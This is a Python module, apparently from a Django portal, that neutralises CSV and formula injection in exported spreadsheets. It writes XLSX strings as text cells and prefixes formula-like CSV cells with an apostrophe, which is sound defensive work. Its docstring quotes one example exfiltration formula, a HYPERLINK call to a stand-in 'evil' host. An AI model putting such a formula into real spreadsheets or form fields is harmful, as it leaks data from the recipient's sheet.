"""Spreadsheets that leave the portal, safe to open.

A citizen types their own name; a name like `=HYPERLINK("http://evil/?"&A1)`
must stay text in the official's spreadsheet program. In an XLSX file every
string is written as a text cell (openpyxl would otherwise store a string
starting with "=" as a formula); in a CSV file, where there are no types, a
cell starting with a character that spreadsheet programs read as a formula
gets a leading apostrophe (as OWASP's "CSV injection" advice says).

Every export uses this: django-import-export's (through SafeCSV and
SafeXLSX), the day list's and the dashboard's.
"""

import io
import re
from collections.abc import Iterable, Sequence

import tablib
from import_export.formats import base_formats

# Spreadsheet programs start a formula (or DDE) with these; a tab or carriage
# return first can hide one from a glance.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralised(value: object) -> object:
    """A CSV cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_cells(sheet, rows: Iterable[Sequence[object]]) -> None:
    """Appends rows to an openpyxl sheet, every string as a text cell."""
    for row in rows:
        sheet.append(list(row))
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"


def xlsx_bytes(
    title: str, rows: Iterable[Sequence[object]], *, bold_rows: int = 1, print_header: str = ""
) -> bytes:
    """A one-sheet workbook, ready to read and to print: the first `bold_rows`
    rows are headers (kept in view and printed on every page), columns as
    wide as their text, A4 pages one sheet wide, `print_header` at the top."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    # Excel's rules for a sheet's name: at most 31 characters, none of []:*?/\
    sheet.title = re.sub(r"[\[\]:*?/\\]", " ", title)[:31] or "Sheet"
    text_cells(sheet, rows)
    for row in sheet.iter_rows(max_row=bold_rows):
        for cell in row:
            cell.font = Font(bold=True)
    _fit_columns(sheet)
    sheet.freeze_panes = sheet.cell(row=bold_rows + 1, column=1)
    sheet.print_title_rows = f"1:{bold_rows}"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight = 1, 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    if print_header:
        # "&" starts a code in a page header; "&&" is the character itself.
        sheet.oddHeader.center.text = print_header.replace("&", "&&")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _fit_columns(sheet, *, widest: int = 60) -> None:
    """Each column as wide as its longest value (in characters, capped)."""
    from openpyxl.utils import get_column_letter

    for number, column in enumerate(sheet.iter_cols(values_only=True), 1):
        longest = max((len(str(v)) for v in column if v is not None), default=0)
        sheet.column_dimensions[get_column_letter(number)].width = min(longest + 2, widest)


def csv_text(dataset: tablib.Dataset, *, neutralise: bool = True) -> str:
    """The dataset as CSV; `neutralise=False` only for a copy that is read
    back by Teeka itself (an import waiting for confirmation)."""
    if not neutralise:
        return dataset.export("csv")
    safe = tablib.Dataset(headers=[neutralised(h) for h in dataset.headers or []])
    for row in dataset:
        safe.append([neutralised(v) for v in row])
    return safe.export("csv")


class SafeCSV(base_formats.CSV):
    """django-import-export's CSV, with formula-looking cells neutralised."""

    def export_data(self, dataset: tablib.Dataset, **kwargs) -> str:
        return csv_text(dataset)


class SafeXLSX(base_formats.XLSX):
    """django-import-export's XLSX, every string a text cell."""

    def export_data(self, dataset: tablib.Dataset, **kwargs) -> bytes:
        return xlsx_bytes(dataset.title or "Sheet", [dataset.headers or [], *dataset])
